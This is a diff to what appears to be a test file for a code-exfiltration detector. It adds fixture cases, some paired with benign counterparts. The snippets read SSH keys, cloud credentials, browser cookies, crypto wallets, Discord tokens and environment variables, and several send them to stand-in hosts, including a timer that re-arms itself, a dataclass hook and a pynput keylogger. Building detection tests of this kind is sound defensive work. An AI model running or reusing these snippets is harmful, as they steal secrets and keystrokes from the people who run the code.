@@ -483,4 +483,85 @@ CASES = (
         "import os, sentry_sdk\nsentry_sdk.init('https://k@c.example.invalid/1')\nsentry_sdk.capture_message(str(dict(os.environ)))\n",
         "import sentry_sdk\n\ndef report(e):\n    sentry_sdk.capture_exception(e)\n",
     ),
+    _leaves(
+        "keys by subprocess tar",
+        "import subprocess\ngot = subprocess.run(['tar', 'czf', '-', os.path.expanduser('~/.ssh')], capture_output=True).stdout",
+        _ENV,
+    ),
+    _leaves(
+        "environment by a comprehension of f-strings",
+        "got = '\\n'.join(f'{k}={v}' for k, v in os.environ.items())",
+        _ENV,
+    ),
+    _leaves("kube by yaml", "import yaml\ngot = yaml.safe_load(open(os.path.expanduser('~/.kube/config')))", _ENV),
+    _leaves(
+        "browser cookies by sqlite uri",
+        "import sqlite3\nd = sqlite3.connect('file:' + os.path.expanduser('~/.config/google-chrome/Default/Cookies') + '?mode=ro', uri=True)\ngot = d.execute('select * from cookies').fetchall()",
+        _ENV,
+    ),
+    _leaves(
+        "pypirc by configparser",
+        "import configparser\nc = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.pypirc'))\ngot = {s: dict(c[s]) for s in c.sections()}",
+        _ENV,
+    ),
+    _leaves(
+        "wallets walked",
+        "got = []\nfor d, _, fs in os.walk(os.path.join(os.environ['APPDATA'], 'Exodus')):\n    got += [open(os.path.join(d, f), 'rb').read() for f in fs]",
+        _ENV,
+    ),
+    _leaves(
+        "password manager export",
+        "got = open(os.path.join(os.path.expanduser('~'), 'Documents', 'vault.kdbx'), 'rb').read()",
+        _ENV,
+    ),
+    _leaves(
+        "documents by a helper",
+        "from pathlib import Path\ndef find(root):\n    for p in root.rglob('*'):\n        if p.suffix == '.docx':\n            yield p.read_bytes()\ngot = list(find(Path.home()))",
+        _ENV,
+        SUSPICIOUS,
+    ),
+    _leaves(
+        "screen by pyautogui into memory",
+        "import io, pyautogui\nb = io.BytesIO()\npyautogui.screenshot().save(b, format='PNG')\nb.seek(0)\ngot = b",
+        _ENV,
+    ),
+    _leaves(
+        "clipboard by tkinter's root", "import tkinter as tk\nr = tk.Tk()\nr.withdraw()\ngot = r.clipboard_get()", _ENV
+    ),
+    _leaves(
+        "secrets by a table of paths and map",
+        "P = ['~/.aws/credentials', '~/.azure/accessTokens.json']\ngot = dict(zip(P, map(lambda p: open(os.path.expanduser(p)).read() if os.path.exists(os.path.expanduser(p)) else '', P)))",
+        _ENV,
+    ),
+    _leaves("environment of PID 1", "got = open('/proc/1/environ').read()", _ENV),
+    _leaves(
+        "discord by glob",
+        "import glob, re\ngot = [re.findall(r'mfa\\.[\\w-]{84}', open(f, errors='ignore').read()) for f in glob.glob(os.getenv('APPDATA') + '/discord/Local Storage/leveldb/*.ldb')]",
+        _ENV,
+    ),
+    _acts(
+        "environment by httpx stream in a class",
+        "import os, httpx\nclass T:\n    url = 'HOOK'\n    def __init__(self):\n        self.data = {k: v for k, v in os.environ.items()}\n    def __enter__(self):\n        return self\n    def __exit__(self, *a):\n        httpx.post(self.url, json=self.data)\nwith T():\n    pass\n",
+        "import httpx\nclass T:\n    def get(self, u):\n        return httpx.get(u)\n",
+    ),
+    _acts(
+        "keys by a scheduled timer that re-arms",
+        "import os, threading, urllib.request as u\ndef tick():\n    u.urlopen('HOOK', data=open(os.path.expanduser('~/.netrc'), 'rb').read())\n    threading.Timer(60, tick).start()\ntick()\n",
+        "import threading\ndef tick():\n    threading.Timer(60, tick).start()\n",
+    ),
+    _acts(
+        "caller's key by a dataclass hook",
+        "import dataclasses, requests\n@dataclasses.dataclass\nclass Account:\n    private_key: str\n    def __post_init__(self):\n        requests.get('http://192.0.2.7/?k=' + self.private_key)\n",
+        "import dataclasses\n@dataclasses.dataclass\nclass Account:\n    private_key: str\n",
+    ),
+    _acts(
+        "key logger with a queue list and atexit",
+        "import atexit, requests\nfrom pynput import keyboard\nbuf = []\nkeyboard.Listener(on_press=lambda k: buf.append(str(k))).start()\natexit.register(lambda: requests.post('HOOK', data=''.join(buf)))\n",
+        "from pynput import keyboard\ndef on(f):\n    return keyboard.Listener(on_press=f)\n",
+    ),
+    _acts(
+        "environment over a raw TLS socket",
+        "import os, socket, ssl\ns = ssl.create_default_context().wrap_socket(socket.create_connection(('c.example.invalid', 443)), server_hostname='c.example.invalid')\ns.sendall(repr(dict(os.environ)).encode())\n",
+        "import socket, ssl\ndef connect(h):\n    return ssl.create_default_context().wrap_socket(socket.create_connection((h, 443)), server_hostname=h)\n",
+    ),
 )
